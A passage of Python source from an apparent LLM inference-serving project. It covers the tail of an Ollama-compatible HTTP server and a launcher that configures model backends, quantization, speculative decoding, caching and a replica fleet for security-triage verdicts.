                "model": server_cfg.model_name,
                "response": text,
                "done": True,
                "done_reason": "degraded",
                "degraded": True,
                "model_tier": "heuristic",
                "source": "heuristic",
            }
            if body.get("stream", True):
                # single-record NDJSON so stream=true clients parse it
                self.send_response(200)
                self.send_header("Content-Type", "application/x-ndjson")
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                data = (json.dumps(obj) + "\n").encode()
                try:
                    self.wfile.write(
                        f"{len(data):x}\r\n".encode() + data + b"\r\n"
                    )
                    self.wfile.write(b"0\r\n\r\n")
                except Exception:
                    pass  # chronoslint: disable=CHR005(degraded verdict to a peer that hung up while shedding; the verdict is already counted, a dead socket changes nothing)
            else:
                self._send_json(obj)

        def _parse_options(self, body: dict) -> GenOptions:
            o = body.get("options") or {}
            return GenOptions(
                max_new_tokens=int(o.get("num_predict", 256)),
                temperature=float(o.get("temperature", 0.0)),
                top_p=float(o.get("top_p", 1.0)),
                seed=o.get("seed"),
                format_json=body.get("format") == "json",
            )

        def _generate(self):
            t0 = time.monotonic()
            METRICS.inc("http_generate_requests")
            # join the caller's trace (sensor stamps a traceparent); a
            # bare curl with no header still gets a fresh trace here
            incoming = parse_traceparent(self.headers.get(TRACEPARENT_HEADER))
            with TRACER.start_span("server.generate", parent=incoming) as span:
                self._generate_traced(t0, span)

        def _generate_traced(self, t0: float, span):
            body = self._read_body()
            if body is None or "prompt" not in body:
                span.set_attr("outcome", "bad_request")
                self._send_json({"error": "invalid request: prompt required"}, 400)
                return
            # end-to-end deadline: the header carries *remaining* seconds
            # (clock-skew safe); expired work is dropped before admission
            # so it never reaches prefill — the caller gave up already
            remaining = None
            raw_deadline = self.headers.get(DEADLINE_HEADER)
            if raw_deadline is not None:
                try:
                    remaining = float(raw_deadline)
                except ValueError:
                    remaining = None
            if remaining is not None and remaining <= 0:
                METRICS.inc("deadline_dropped_total",
                            labels={"hop": "replica"})
                span.set_attr("outcome", "deadline_expired")
                self._send_json(
                    {"error": "deadline expired", "done_reason": "deadline"},
                    504,
                )
                return
            if not self._admit_or_reject(body):
                span.set_attr("outcome", "shed")
                return
            prompt = str(body["prompt"])
            # residency ledger: this chain's prefix KV will be resident
            # here after prefill — export/migration and the fleet
            # directory (probe piggyback in _readyz) both key off it
            state.chains.note(chain_key(prompt), prompt)
            stream = bool(body.get("stream", True))  # Ollama default: stream
            opts = self._parse_options(body)
            model = body.get("model", server_cfg.model_name)
            deadline = t0 + server_cfg.request_timeout_s
            if remaining is not None:
                deadline = min(deadline, t0 + remaining)
            span.set_attr("stream", stream)
            span.set_attr("prompt_chars", len(prompt))
            try:
                # chronoslint: disable=CHR011(Ollama wire boundary: /api/generate relays the caller's prompt verbatim by contract; sensor-side assembly sanitizes event text before it reaches this wire, and the JSON-DFA constrains the output grammar regardless)
                req = backend.submit(prompt, opts, deadline=deadline,
                                     trace_ctx=span.ctx)
            except Exception as e:
                span.set_attr("outcome", "submit_error")
                self._send_json({"error": f"{type(e).__name__}: {e}"}, 500)
                return
            if stream:
                self._stream_response(req, model)
            else:
                try:
                    text = self._result_or_cancel(
                        req, server_cfg.request_timeout_s
                    )
                except TimeoutError:
                    req.cancel()  # don't burn the slot after we 504
                    span.set_attr("outcome", "timeout")
                    self._send_json({"error": "generation timed out"}, 504)
                    return
                except ConnectionError:
                    span.set_attr("outcome", "client_gone")
                    return  # client gone; req already cancelled
                except RuntimeError as e:
                    span.set_attr("outcome", "error")
                    self._send_json({"error": str(e)}, 500)
                    return
                total = time.monotonic() - t0
                twr0 = time.monotonic()
                self._send_json(self._final_obj(req, model, text, total))
                TRACER.record("server.response_write", span.trace_id,
                              span.span_id, twr0, time.monotonic())
            span.set_attr("outcome", "ok")
            log_event(
                LOG, "generate", model=model, stream=stream,
                latency_ms=round(1000 * (time.monotonic() - t0), 1),
                prompt_chars=len(prompt),
            )

        def _chat(self):
            """Minimal /api/chat: flatten messages into a prompt."""
            if not self._admit_or_reject():
                return
            body = self._read_body()
            if body is None or "messages" not in body:
                self._send_json({"error": "invalid request: messages required"}, 400)
                return
            parts = []
            for m in body["messages"]:
                parts.append(f"{m.get('role', 'user')}: {m.get('content', '')}")
            parts.append("assistant:")
            body2 = dict(body)
            body2["prompt"] = "\n".join(parts)
            opts = self._parse_options(body2)
            model = body.get("model", server_cfg.model_name)
            try:
                # chronoslint: disable=CHR011(Ollama wire boundary: /api/chat flattens caller-supplied messages by contract; sensor-side assembly sanitizes event text upstream and the JSON-DFA constrains the output grammar regardless)
                req = backend.submit(
                    body2["prompt"], opts,
                    deadline=time.monotonic() + server_cfg.request_timeout_s,
                )
                text = req.result(timeout=server_cfg.request_timeout_s)
            except Exception as e:
                self._send_json({"error": f"{type(e).__name__}: {e}"}, 500)
                return
            self._send_json(
                {
                    "model": model,
                    "message": {"role": "assistant", "content": text},
                    "done": True,
                }
            )

        def _embeddings(self):
            """Ollama embeddings surface.  /api/embeddings (legacy) takes
            "prompt" and returns {"embedding": [...]}; /api/embed takes
            "input" (string or list) and returns {"embeddings": [[...]]}.
            Backends may implement embed(); otherwise a deterministic
            hashing embedding keeps the endpoint functional (chain-
            similarity needs stability, not semantics, without a model)."""
            body = self._read_body()
            if not isinstance(body, dict):
                self._send_json({"error": "invalid request"}, 400)
                return
            legacy = self.path == "/api/embeddings"
            raw = body.get("prompt") if legacy else body.get("input")
            if raw is None:
                self._send_json(
                    {"error": "prompt required" if legacy else "input required"},
                    400,
                )
                return
            prompts = raw if isinstance(raw, list) else [raw]
            embed = getattr(backend, "embed", None)
            try:
                vecs = []
                for p in prompts:
                    if embed is not None:
                        vecs.append([float(x) for x in embed(str(p))])
                    else:
                        vecs.append(_hash_embedding(str(p)))
            except Exception as e:  # errors must be JSON (sensor fails open)
                self._send_json({"error": f"{type(e).__name__}: {e}"}, 500)
                return
            if legacy:
                self._send_json(
                    {"embedding": vecs[0] if vecs else []}
                )
            else:
                self._send_json(
                    {"model": server_cfg.model_name, "embeddings": vecs}
                )

        def _result_or_cancel(self, req, timeout_s: float) -> str:
            """Like req.result(), but watches the client socket while
            waiting: a disconnect cancels the request so its slot and
            pages are reclaimed instead of decoding to a dead peer
            (SURVEY.md §5 failure-detection obligation)."""
            import select
            import socket as socket_mod

            deadline = time.monotonic() + timeout_s
            while True:
                remaining = deadline - time.monotonic()
                if remaining <= 0:
                    raise TimeoutError("generation did not finish in time")
                if req.done.wait(min(0.25, remaining)):
                    if req.error:
                        raise RuntimeError(req.error)
                    return req.text
                try:
                    readable, _, _ = select.select([self.connection], [], [], 0)
                    # data == pipelined next request (keep working);
                    # b"" == FIN from the client.  A FIN is ambiguous: it
                    # is both "curl was killed" (the failure-detection
                    # case this exists for) and a half-close
                    # (shutdown(SHUT_WR)) from a client that still wants
                    # the response.  The two are indistinguishable
                    # without attempting a send, so we deliberately
                    # cancel on FIN: reclaiming slots from dead peers is
                    # worth not supporting half-closing clients (which
                    # neither the reference sensor nor ollama clients
                    # use).  ADVICE r4: accepted, documented behavior.
                    alive = (
                        not readable
                        or self.connection.recv(1, socket_mod.MSG_PEEK) != b""
                    )
                except (OSError, ValueError):
                    alive = False
                if not alive:
                    req.cancel()
                    raise ConnectionError("client disconnected")

        def _final_obj(self, req, model: str, text: str, total_s: float) -> dict:
            obj = {
                "model": model,
                "created_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
                "response": text,
                "done": True,
                "done_reason": "stop",
                "total_duration": int(total_s * 1e9),
                "prompt_eval_count": req.prompt_eval_count,
                "eval_count": req.eval_count,
                "eval_duration": int(max(total_s - (req.ttft_s or 0), 0) * 1e9),
            }
            # verdict provenance (cascade): which model tier answered.
            # Untiered replicas stamp nothing — the wire shape predates
            # the cascade and single-tier deployments stay byte-stable.
            if server_cfg.model_tier:
                obj["model_tier"] = server_cfg.model_tier
            # tier-0 provenance: a semcache hit never ran an LLM
            # forward past prefill, so the envelope says exactly where
            # the verdict came from (CHR019) plus the evidence — the
            # top-1 cosine and the consensus width behind it
            if getattr(req, "source", "llm") == "semcache":
                obj["done_reason"] = "semcache"
                obj["source"] = "semcache"
                obj["model_tier"] = "semcache"
                if req.sem_score is not None:
                    obj["semcache_score"] = round(float(req.sem_score), 4)
                obj["semcache_agree"] = int(getattr(req, "sem_agree", 0))
            elif getattr(req, "sem_escalate", False):
                # the hard rule fired: the chain sits near known-bad
                # rows, so this LLM answer was mandatory, not optional
                obj["semcache_escalated"] = True
            return obj

        def _stream_response(self, req, model: str):
            """NDJSON chunked streaming (Ollama stream=true shape)."""
            self.send_response(200)
            self.send_header("Content-Type", "application/x-ndjson")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()

            def write_chunk(obj):
                data = (json.dumps(obj) + "\n").encode()
                self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")

            t0 = time.monotonic()
            tr = getattr(req, "trace", None)
            n_chunks = 0
            try:
                for delta in req.iter_deltas(timeout=server_cfg.request_timeout_s):
                    write_chunk(
                        {"model": model, "response": delta, "done": False}
                    )
                    n_chunks += 1
                req.result(timeout=1.0)
                final = self._final_obj(req, model, "", time.monotonic() - t0)
                write_chunk(final)
                if tr is not None:
                    TRACER.record(
                        "server.stream_write", tr.trace_id, tr.span_id,
                        t0, time.monotonic(), attrs={"chunks": n_chunks},
                    )
            except Exception as e:
                # a write failure means the client is gone: release the
                # slot instead of decoding to a dead peer
                req.cancel()
                # stream must still end with a done:true record carrying
                # the error, or Ollama-style consumers hang/mis-parse
                try:
                    write_chunk(
                        {
                            "model": model,
                            "response": "",
                            "done": True,
                            "done_reason": "error",
                            "error": str(req.error or e),
                        }
                    )
                except Exception:
                    pass  # chronoslint: disable=CHR005(best-effort error chunk to a peer that already hung up; the request error is recorded upstream, a dead socket is the client's problem)
            finally:
                try:
                    self.wfile.write(b"0\r\n\r\n")
                except Exception:
                    pass  # chronoslint: disable=CHR005(chunked-encoding terminator on a possibly-dead socket; failing here would mask the real handler outcome)

    return Handler


class ChronosServer:
    """Lifecycle wrapper: serve_forever on a thread, graceful shutdown
    (stop admitting -> finish in-flight -> close the socket)."""

    def __init__(self, backend, server_cfg: Optional[ServerConfig] = None,
                 degrade_cfg: Optional[DegradeConfig] = None):
        self.cfg = server_cfg or ServerConfig()
        self.backend = backend
        self._state = _ServerState()
        # default listen backlog (5) overflows under router hedging +
        # spill-over bursts; an overflowed accept queue shows up as a
        # ~1 s SYN-retransmit tail on the client, not as an error here
        srv_cls = type("_ChronosHTTPServer", (ThreadingHTTPServer,),
                       {"request_queue_size": 128})
        self.httpd = srv_cls(
            (self.cfg.host, self.cfg.port),
            _make_handler(backend, self.cfg, self._state, degrade_cfg),
        )
        self.port = self.httpd.server_address[1]
        self._thread: Optional[threading.Thread] = None

    @property
    def degrade_stage(self) -> int:
        ladder = self._state.ladder
        return ladder.stage if ladder is not None else 0

    def start(self):
        self._thread = threading.Thread(
            target=self.httpd.serve_forever, daemon=True, name="chronos-http"
        )
        self._thread.start()
        log_event(LOG, "listening", host=self.cfg.host, port=self.port)

    @property
    def draining(self) -> bool:
        return self._state.draining

    def begin_drain(self):
        """Stop admitting generate-class work (503 + Retry-After); health
        and metrics endpoints keep answering, in-flight requests finish."""
        self._state.draining = True
        log_event(LOG, "draining", port=self.port)

    def stop(self, drain: bool = True):
        if drain:
            self.begin_drain()
            inflight = getattr(self.backend, "inflight_count", None)
            if inflight is not None and self.cfg.drain_timeout_s > 0:
                deadline = time.monotonic() + self.cfg.drain_timeout_s
                while time.monotonic() < deadline and inflight() > 0:
                    time.sleep(0.02)
                left = inflight()
                if left:
                    log_event(LOG, "drain_timeout", abandoned=left)
        self.httpd.shutdown()
        self.httpd.server_close()
        if self._thread:
            self._thread.join(timeout=5)
        # a replica that dies browned out (stop(drain=False) is the
        # chaos-crash shape) must hand back the process-global tracer /
        # spec-brownout levers it was holding
        if self._state.release_degrade is not None:
            self._state.release_degrade()
