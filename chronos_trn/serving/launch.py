"""Server launcher: `python -m chronos_trn.serving.launch [options]`.

Builds the backend (real model from a checkpoint dir, deterministically
initialized tiny/8B for smoke runs, or the heuristic analyst), starts the
continuous-batching scheduler and the Ollama-compatible HTTP edge, and
warms up the compiled graphs before accepting traffic (the reference's
first request timed out during model load — SURVEY.md §6).
"""
from __future__ import annotations

import argparse
import os
import sys

import jax

from chronos_trn.config import (
    CacheConfig,
    EngineConfig,
    ModelConfig,
    ServerConfig,
)
from chronos_trn.serving.backends import HeuristicBackend, ModelBackend
from chronos_trn.serving.scheduler import Scheduler
from chronos_trn.serving.server import ChronosServer
from chronos_trn.utils.structlog import get_logger, log_event

LOG = get_logger("launch")


def build_backend(args, tier=None):
    if args.backend == "heuristic":
        return HeuristicBackend(model_name=args.model_name, tier=tier), None
    from chronos_trn.serving.engine import InferenceEngine
    from chronos_trn.core import model as model_lib
    from chronos_trn.tokenizer.bpe import load_tokenizer

    if args.model == "tiny":
        mcfg = ModelConfig.tiny()
        params = model_lib.init_params(mcfg, jax.random.PRNGKey(args.seed))
        tok = load_tokenizer(None, vocab_size=mcfg.vocab_size)
    elif args.model in ("8b", "llama3-8b"):
        mcfg = ModelConfig.llama3_8b()
        params = model_lib.init_params(mcfg, jax.random.PRNGKey(args.seed))
        tok = load_tokenizer(None, vocab_size=mcfg.vocab_size)
    else:  # checkpoint directory
        from chronos_trn.checkpoints import loader
        mcfg = loader.load_config(args.model)
        params = loader.load_params(args.model, mcfg)
        tok = load_tokenizer(args.model, vocab_size=mcfg.vocab_size)

    if args.lora:
        # serve-with-adapter (BASELINE config 5): fold a trained LoRA
        # checkpoint into the base weights at load time
        from chronos_trn.training import lora as lora_lib
        adapters = lora_lib.load_adapters(args.lora)
        params = lora_lib.merge_adapters(params, adapters, alpha=args.lora_alpha)
        log_event(LOG, "lora_merged", path=args.lora, targets=sorted(adapters))

    if args.quant != "none":
        # weight-only int8: AFTER any LoRA merge (adapters fold into
        # dense weights), BEFORE TP sharding (shard_params detects the
        # quantized tree and places the scale tensors).  One jit = one
        # compile for the whole tree, not one per leaf.
        from chronos_trn.core import quant as quant_lib
        import dataclasses as _dc

        dense_bytes = quant_lib.param_bytes(params)
        params = jax.jit(quant_lib.quantize_params)(params)
        mcfg = _dc.replace(mcfg, quant=args.quant)
        log_event(LOG, "quantized", mode=args.quant,
                  dense_gb=round(dense_bytes / 1e9, 3),
                  quant_gb=round(quant_lib.param_bytes(params) / 1e9, 3))

    mesh = None
    if args.tp > 1:
        from chronos_trn.parallel import mesh as mesh_lib
        from chronos_trn.parallel import multihost, sharding as sharding_lib

        multihost.initialize()  # no-op unless CHRONOS_COORDINATOR is set
        mesh = mesh_lib.make_mesh(dp=1, sp=1, tp=args.tp)
        params = sharding_lib.shard_params(params, mcfg, mesh)
        log_event(LOG, "tp_sharded", tp=args.tp)

    if args.paged:
        ccfg = CacheConfig(
            page_size=args.page_size,
            num_pages=args.num_pages,
            max_pages_per_seq=args.max_pages_per_seq,
        )
    else:
        # serving default: slot-contiguous pool => fused decode (device
        # sampling + device JSON DFA, decode_chunk steps per dispatch)
        ccfg = CacheConfig.for_slots(
            args.batch_slots,
            page_size=args.page_size,
            max_pages_per_seq=args.max_pages_per_seq,
        )
    ecfg = EngineConfig(
        max_batch_slots=args.batch_slots,
        decode_chunk=args.decode_chunk,
        fused_decode=not args.paged,
        # serving default: first token must not wait for the fused
        # compile (the reference's failure mode, SURVEY.md §6) — serve
        # per-step immediately, flip to fused when the background
        # compile lands.  --no-staged-warmup restores blocking compile.
        staged_warmup=not args.paged and not args.no_staged_warmup,
        # serving default ON: every verdict prompt shares the analyst
        # preamble and re-sends its PID's growing chain, the exact
        # workload prefix caching exists for (docs/OPERATIONS.md)
        prefix_cache=args.prefix_cache,
        prefix_cache_pages=args.prefix_cache_pages,
        # speculative decoding (chronos_trn.spec): draft-and-verify on
        # the per-step decode path; the fused device path still wins
        # when eligible, so this matters for --paged serving, the
        # staged-warmup window, and constrained slots without a device
        # DFA (docs/OPERATIONS.md "Speculative decoding")
        spec_decode=args.spec,
        spec_draft_len=args.spec_draft_len,
        spec_acceptance=args.spec_acceptance,
        spec_tree_width=args.spec_tree_width,
        quant=args.quant,
        # semantic triage cache (chronos_trn.semcache): tier-0 verdict
        # memoization in embedding space, in front of the cascade
        semcache=getattr(args, "semcache", False),
        semcache_capacity=getattr(args, "semcache_capacity", 4096),
    )
    engine = InferenceEngine(params, mcfg, ccfg, ecfg, mesh=mesh)
    from chronos_trn.analysis.sanitize import sanitize_enabled

    if sanitize_enabled():
        # loud by design: the sanitizer revalidates allocator invariants
        # after every mutation — a debugging mode, not a serving mode
        log_event(LOG, "sanitize_active",
                  warning="CHRONOS_SANITIZE=1 — KV-ownership sanitizer on; "
                          "expect per-mutation validation overhead")
    if os.environ.get("CHRONOS_ENGINE_FAULTS"):
        # chaos drill: inject engine faults behind the scheduler
        from chronos_trn.testing.faults import maybe_wrap_engine

        engine = maybe_wrap_engine(engine)
    semcache = None
    if ecfg.semcache:
        from chronos_trn.semcache import build_semcache

        semcache = build_semcache(mcfg.dim, ecfg)
        log_event(LOG, "semcache_enabled", dim=mcfg.dim,
                  capacity=ecfg.semcache_capacity,
                  threshold=ecfg.semcache_threshold)
    sched = Scheduler(engine, tok, ecfg, semcache=semcache,
                      semcache_tier=tier or "llm")
    sched.start()
    return ModelBackend(sched, model_name=args.model_name), sched


def resolve_quant(arg_value: str, env_value) -> str:
    """Fold the CHRONOS_QUANT env override into the --quant flag value.
    Falsy spellings ("", 0, false, no, off, none) force bf16; anything
    else (int8, 1, true, ...) forces int8; env unset keeps the flag."""
    if env_value is None:
        return arg_value
    v = env_value.strip().lower()
    if v in ("", "0", "false", "no", "off", "none"):
        return "none"
    return "int8"


def _serve_fleet(args):
    """--fleet N: N in-process replicas on ephemeral loopback ports, the
    router on the wire port.  Each replica is built exactly like the
    single-server path (same backend/quant/prefix-cache knobs), so the
    fleet is N of the proven thing, not a parallel implementation."""
    from chronos_trn.config import FleetConfig
    from chronos_trn.fleet.router import FleetRouter
    from chronos_trn.obs.slo import load_slos
    from chronos_trn.serving.backends import RemoteBackend

    from chronos_trn.config import DegradeConfig

    dcfg = DegradeConfig(enabled=args.degrade)

    def _replica_server_cfg(tier=None):
        return ServerConfig(
            host="127.0.0.1", port=0, model_name=args.model_name,
            max_queue_depth=args.max_queue_depth,
            retry_after_s=args.retry_after,
            request_timeout_s=args.request_timeout,
            drain_timeout_s=args.drain_timeout,
            model_tier=tier or "",
        )

    # --cascade N puts N 1B-tier triage replicas in FRONT of the --fleet
    # replicas (which become the 8B escalation pool): every chain is
    # served by a 1B replica first and only risk >= escalate_risk (or
    # malformed JSON) pays an 8B re-dispatch.  Without --cascade the
    # fleet is untiered and the router's cascade never activates.
    tiers = [None] * args.fleet
    if args.cascade > 0:
        tiers = ["8b"] * args.fleet + ["1b"] * args.cascade

    servers, scheds = [], []
    for i, tier in enumerate(tiers):
        backend, sched = build_backend(args, tier=tier)
        if not args.no_warmup:
            backend.warmup()
        elif sched is not None:
            sched.warmed = True
        srv = ChronosServer(backend, _replica_server_cfg(tier),
                            degrade_cfg=dcfg)
        srv.start()
        servers.append(srv)
        scheds.append(sched)
        log_event(LOG, "replica_ready", replica=f"r{i}", port=srv.port,
                  tier=tier)

    fcfg = FleetConfig(
        request_timeout_s=args.request_timeout,
        hedge_enabled=args.hedge,
        probe_interval_s=args.probe_interval,
        degrade_enabled=args.degrade,
        **({"escalate_risk": args.escalate_risk}
           if args.escalate_risk is not None else {}),
        **({"snapshot_path": os.path.join(args.snapshot_dir, "router.json")}
           if args.snapshot_dir else {}),
    )
    if args.snapshot_dir:
        os.makedirs(args.snapshot_dir, exist_ok=True)
    remotes = [
        RemoteBackend(
            f"r{i}", f"http://127.0.0.1:{srv.port}",
            failure_threshold=fcfg.breaker_failure_threshold,
            open_duration_s=fcfg.breaker_open_duration_s,
            request_timeout_s=fcfg.request_timeout_s,
            probe_timeout_s=fcfg.probe_timeout_s,
            tier=tier,
        )
        for i, (srv, tier) in enumerate(zip(servers, tiers))
    ]
    # --slo 0 must reach the router as "no objectives", not None (the
    # ctor treats None as "use the defaults")
    specs = load_slos(args.slo)
    router_port = args.router_port if args.router_port is not None else args.port
    router = FleetRouter(remotes, fleet_cfg=fcfg,
                         slo_specs=specs if specs is not None else (),
                         server_cfg=ServerConfig(
        host=args.host, port=router_port, model_name=args.model_name,
        retry_after_s=args.retry_after,
        request_timeout_s=args.request_timeout,
    ), degrade_cfg=dcfg)
    router.start()
    log_event(LOG, "fleet_ready", replicas=args.fleet, port=router.port,
              backend=args.backend, model=args.model)
    autoscaler = None
    if args.autoscale:
        from chronos_trn.config import AutoscaleConfig
        from chronos_trn.fleet.autoscale import Autoscaler
        from chronos_trn.fleet.pool import Replica, ReplicaPool

        # adopt the already-started replicas into a pool so the
        # autoscaler's membership ops (spawn/retire) use the same
        # machinery as tests and the chaos harness
        pool = ReplicaPool([
            Replica(b.name, srv, srv.backend, scheduler=sched, tier=b.tier)
            for b, srv, sched in zip(remotes, servers, scheds)
        ])

        def spawn(p):
            # same construction path as the initial replicas (quant,
            # prefix cache, spec knobs all honored) — warmed BEFORE the
            # router can see it, so scale-out never serves a cold compile
            backend, sched = build_backend(args)
            backend.warmup()
            srv = ChronosServer(backend, _replica_server_cfg(),
                                degrade_cfg=dcfg)
            srv.start()
            servers.append(srv)
            scheds.append(sched)
            r = Replica(p.next_name(), srv, backend, scheduler=sched)
            p.replicas.append(r)
            return r

        autoscaler = Autoscaler(router, pool, AutoscaleConfig(
            enabled=True,
            min_replicas=max(1, args.autoscale_min),
            max_replicas=max(args.autoscale_min, args.autoscale_max),
        ), spawn=spawn)
        log_event(LOG, "autoscaler_ready",
                  bounds=[args.autoscale_min, args.autoscale_max])
    try:
        import threading
        if autoscaler is None:
            threading.Event().wait()
        else:
            stop = threading.Event()
            interval = max(0.25, args.probe_interval or 1.0)
            while not stop.wait(interval):
                autoscaler.tick()
    except KeyboardInterrupt:
        pass
    finally:
        router.stop()
        for srv in servers:
            srv.stop()
        for sched in scheds:
            if sched is not None:
                sched.stop()


def main(argv=None):
    ap = argparse.ArgumentParser(description="chronos_trn Ollama-compatible server")
    ap.add_argument("--model", default="tiny",
                    help="'tiny', '8b', or a HF checkpoint directory")
    ap.add_argument("--model-name", default="llama3",
                    help="name reported on the wire (reference sends 'llama3')")
    ap.add_argument("--backend", default="model", choices=["model", "heuristic"])
    ap.add_argument("--host", default="0.0.0.0")
    ap.add_argument("--port", type=int, default=11434)
    ap.add_argument("--batch-slots", type=int, default=8)
    ap.add_argument("--tp", type=int, default=1,
                    help="tensor-parallel degree (8 = one full trn2 chip)")
    ap.add_argument("--page-size", type=int, default=16)
    ap.add_argument("--num-pages", type=int, default=512,
                    help="pool size; only meaningful with --paged")
    ap.add_argument("--max-pages-per-seq", type=int, default=128)
    ap.add_argument("--paged", action="store_true",
                    help="shared paged pool + per-step decode (long-context "
                         "mode) instead of the slot-contiguous fused path")
    ap.add_argument("--decode-chunk", type=int, default=16,
                    help="fused decode steps per device dispatch")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--lora", default=None,
                    help="LoRA adapter safetensors to fold into the weights")
    ap.add_argument("--lora-alpha", type=float, default=16.0)
    ap.add_argument("--profile-dir", default=None,
                    help="write a jax.profiler trace (viewable in perfetto/"
                         "tensorboard; on trn pairs with neuron-profile)")
    ap.add_argument("--no-warmup", action="store_true")
    ap.add_argument("--max-queue-depth", type=int, default=64,
                    help="shed /api/generate with 429 + Retry-After once "
                         "this many requests are queued (0 disables)")
    ap.add_argument("--retry-after", type=float, default=1.0,
                    help="Retry-After seconds sent on 429/503 rejections")
    ap.add_argument("--request-timeout", type=float, default=120.0,
                    help="per-request deadline; expired queued requests "
                         "are dropped before prefill")
    ap.add_argument("--drain-timeout", type=float, default=5.0,
                    help="graceful-shutdown wait for in-flight requests")
    ap.add_argument("--prefix-cache", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="cross-request prefix KV reuse: matched "
                         "page-aligned prompt prefixes skip recompute "
                         "(--no-prefix-cache disables)")
    ap.add_argument("--prefix-cache-pages", type=int, default=64,
                    help="pages of prefix KV retained beyond live "
                         "sequences (LRU beyond this; with --paged these "
                         "come out of --num-pages — see OPERATIONS.md)")
    ap.add_argument("--spec", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="speculative decoding on the per-step path: "
                         "n-gram prompt-lookup + grammar jump-ahead "
                         "drafts verified in one forward, byte-identical "
                         "under greedy (--no-spec disables; CHRONOS_SPEC"
                         "=0|1 overrides both)")
    ap.add_argument("--spec-draft-len", type=int, default=4,
                    help="initial per-slot draft length; adapts between "
                         "spec_draft_len_min/max on observed accept rate")
    ap.add_argument("--spec-acceptance", default="stochastic",
                    choices=["stochastic", "greedy"],
                    help="draft acceptance at temperature>0: stochastic "
                         "(Leviathan min(1,p/q) rejection — emitted "
                         "stream is distributed exactly as plain "
                         "sampling) or greedy (sample-and-compare, "
                         "byte-identical but lower accept rates on flat "
                         "distributions).  Temperature 0 is always "
                         "greedy-exact either way")
    ap.add_argument("--spec-tree-width", type=int, default=2,
                    help="sibling candidates drafted at grammar branch "
                         "points, verified in the same window (1 = "
                         "linear drafts only; see OPERATIONS.md for "
                         "width-vs-wall-clock guidance)")
    ap.add_argument("--quant", default="none", choices=["none", "int8"],
                    help="weight-only quantization: int8 weights + "
                         "per-output-channel scales, quantized once at "
                         "load (after any LoRA merge).  Halves decode's "
                         "weight bytes and the embedding gather table; "
                         "numerics shift from bf16 (bench.py --quant "
                         "reports agreement).  CHRONOS_QUANT=int8|0 "
                         "overrides the flag for fleet rollout/rollback")
    ap.add_argument("--no-quant", dest="quant", action="store_const",
                    const="none", help="alias for --quant none")
    ap.add_argument("--no-staged-warmup", action="store_true",
                    help="block serving until the fused graph is compiled "
                         "instead of starting on the per-step path")
    ap.add_argument("--trace", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="record per-request spans (sensor->prefill->"
                         "decode) into the in-memory ring served at "
                         "/debug/traces (--no-trace disables recording; "
                         "traceparent propagation still works)")
    ap.add_argument("--trace-capacity", type=int, default=8192,
                    help="span ring size; oldest spans drop beyond this")
    ap.add_argument("--profile-sample", type=int, default=None,
                    help="step-profiler cadence: fence every Nth engine "
                         "dispatch to split host/dispatch/device time "
                         "(served at /debug/perf; 0 disables, default "
                         "1/64; CHRONOS_PROFILE overrides)")
    ap.add_argument("--platform", default=None,
                    help="force jax platform (e.g. cpu) for local runs")
    ap.add_argument("--virtual-devices", type=int, default=0,
                    help="with --platform cpu: host device count (lets "
                         "--tp N run on a laptop mesh)")
    ap.add_argument("--fleet", type=int, default=0,
                    help="serve N in-process replicas behind the fleet "
                         "router (chronos_trn.fleet): session-affine "
                         "cache-aware routing, per-backend breakers, "
                         "spill-over, health-gated membership.  Sensors "
                         "keep pointing at one URL (the router).  <2 "
                         "serves a single replica as before; CHRONOS_"
                         "FLEET=N overrides the flag")
    ap.add_argument("--router-port", type=int, default=None,
                    help="router listen port with --fleet (default: "
                         "--port, i.e. the router takes the wire port "
                         "and replicas bind ephemeral loopback ports)")
    ap.add_argument("--snapshot-dir",
                    default=os.environ.get("CHRONOS_WAL_DIR", ""),
                    help="with --fleet: durable state dir for router "
                         "warm restart — the router periodically writes "
                         "an atomic snapshot of its affinity table, "
                         "chain directory, degrade-ladder stage, and "
                         "gray scoreboard there and restores it on "
                         "start (probe-before-trust: every restored "
                         "backend is re-probed first).  Default off; "
                         "env CHRONOS_WAL_DIR (docs/OPERATIONS.md "
                         "\"Durability & restart\")")
    ap.add_argument("--cascade", type=int, default=0,
                    help="with --fleet: add N 1B-tier triage replicas in "
                         "front of the fleet (the --fleet replicas "
                         "become the 8B escalation pool).  Every chain "
                         "is triaged on 1B first; verdicts with risk >= "
                         "--escalate-risk (or malformed JSON) re-dispatch "
                         "to 8B over the same wire.  0 (default) serves "
                         "an untiered fleet.  CHRONOS_CASCADE=N "
                         "overrides the flag (docs/OPERATIONS.md "
                         "\"Model-tier cascade\")")
    ap.add_argument("--escalate-risk", type=int, default=None,
                    help="cascade escalation threshold: a 1B verdict "
                         "with risk_score >= this re-dispatches to 8B "
                         "(default: FleetConfig.escalate_risk = 6, the "
                         "MALICIOUS cutoff).  CHRONOS_ESCALATE_RISK "
                         "overrides the flag")
    ap.add_argument("--hedge", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="with --fleet: hedge slow requests to a second "
                         "replica after an adaptive p95 delay (first "
                         "response wins; hedges draw from the retry "
                         "budget and never steal cache affinity).  Off "
                         "by default — turn on when tail TTFV matters "
                         "more than the duplicate work.  CHRONOS_HEDGE"
                         "=0|1 overrides the flag")
    ap.add_argument("--probe-interval", type=float, default=1.0,
                    help="with --fleet: health-probe loop period in "
                         "seconds (per-backend start jitter is applied "
                         "on top so probes don't synchronize across "
                         "routers).  CHRONOS_PROBE_INTERVAL overrides")
    ap.add_argument("--semcache", action=argparse.BooleanOptionalAction,
                    default=False,
                    help="semantic triage cache (tier-0): memoize "
                         "verdicts by chain embedding and answer "
                         "benign-consensus repeats without decoding; "
                         "malicious-adjacent neighborhoods always "
                         "escalate to the LLM (docs/OPERATIONS.md "
                         "'Semantic triage cache').  CHRONOS_SEMCACHE"
                         "=0|1 overrides the flag")
    ap.add_argument("--semcache-capacity", type=int, default=4096,
                    help="resident semcache library rows (append-ring "
                         "eviction past this)")
    ap.add_argument("--degrade", action=argparse.BooleanOptionalAction,
                    default=True,
                    help="staged degradation ladder under overload: "
                         "shrink/disable spec drafts, shed trace spans, "
                         "tighten admission, and at the top stage serve "
                         "heuristic degraded:true verdicts instead of "
                         "dropping chains (--no-degrade pins full "
                         "service and sheds with 429 instead).  "
